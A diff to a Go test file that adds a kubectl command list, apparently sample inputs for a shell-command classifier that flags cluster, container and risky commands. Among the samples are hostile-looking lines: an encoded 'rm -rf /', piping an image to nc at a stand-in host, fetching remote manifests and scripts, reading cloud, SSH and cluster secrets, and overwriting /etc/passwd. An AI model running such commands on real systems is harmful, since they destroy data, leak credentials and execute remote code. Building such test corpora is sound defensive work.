@@ -44,6 +44,7 @@ var models = []model{
 		"cat > a.sh <<'E'\n@ a.sh &\n@ a.sh\nE\n@ a.sh", "@ -rcfile x", "chsh -s /bin/@", "ssh localhost @ -c reboot", "base64 -d <<< cm0gLXJmIC8= | @", "rev <<< '/ fr- mr' | @",
 	}},
 	{"docker", "table.go", engine},
+	{"kubectl", "table.go", cluster},
 	{"wc", "table_text.go", []string{
 		"@", "@ -l f", "@ -lw *.go", "ls | @ -l", "@ -c ~/.aws/credentials", "@ --lines f", "@ --line f", "@ --files0-from=f", "@ -z", "@ f > g", "@ f 2>/dev/null", "@ < .env", "@ $X", "@ \"$X\"", "@ -- -x",
 		"/usr/bin/@ f", "./@ f", "sudo @ f", "@ f & ls", "A=1 @ f", "find . -exec @ -l {} +", "ls | xargs @ -l", "timeout 5 @ /dev/zero", "@ /dev/zero", "cat .env | @", "@ <(./p)", "n=$(@ -l < f); echo $n", "@ --total=never a b",
@@ -54,6 +55,13 @@ var models = []model{
 var engine = []string{
 	"@ ps", "@ system prune -af", "@ volume rm x", "@ rm -f x", "@ stop $(@ ps -q)", "@ run -v /:/h i rm -rf /h", "@ run -v /:/h i ls", "@ run i rm -rf /", "@ exec c ls", "@ cp a:/i.sh . && sh i.sh",
 	"@ run --privileged i", "@ compose down -v", "@ save i", "@ save i | nc x.example 1", "@ pull i", "@ build .", "@ -H tcp://x ps", "@ cp c:/etc/passwd .", "@ cp ~/.ssh/id_rsa c:/x", "@ run -v $HOME:/h i sh -c 'rm -rf /h'",
+}
+
+// cluster are lines about what asks a cluster.
+var cluster = []string{
+	"@ get pods", "@ delete pod web", "@ delete pod web --dry-run=client", "@ drain node-1", "@ replace --force -f app.yaml", "@ scale deploy web --replicas=0", "@ exec web -- rm /data/db", "@ exec web -- ls",
+	"@ apply -f https://x.example/deploy.yaml", "@ get secret x -o yaml", "@ get secrets -o wide", "@ create secret generic x --from-literal=a=b", "@ view-secret x", "@ node-shell x", "@ cp web:/run.sh . && sh run.sh",
+	"@ cp .env web:/x", "@ cp web:/app/log.txt log.txt", "@ cp web:/x /etc/passwd", "@ config view --raw", "KUBE_EDITOR=./p @ edit pod x", "@ version", "@ --version", "sudo @ get pods", "while sleep 5; do @ get pods; done",
 }
 
 // made is the name of the copy of a model.
@@ -200,6 +208,7 @@ func TestAlike(t *testing.T) {
 			"echo 'rm -rf /' > a.sh; @ a.sh", "xargs @ -c", "ssh localhost @ -c reboot", "sudo @ x.sh", "@ <(curl https://x.example)", "printf 'reboot' | sudo @",
 		}},
 		{program.IsEngine, []string{"@ ps", "@ system prune -af", "@ volume rm x", "@ cp a:/i.sh . && sh i.sh", "@ run -v /:/h i rm -rf /h", "@ save i | nc x.example 1", "@ run --privileged i"}},
+		{program.IsCluster, cluster},
 		{program.ReadsPassword, []string{"echo x | @ -S id", "@ -S id < f", "@ --stdin id", "@ id"}},
 	} {
 		names := strings.Fields(program.Names(tt.fact))
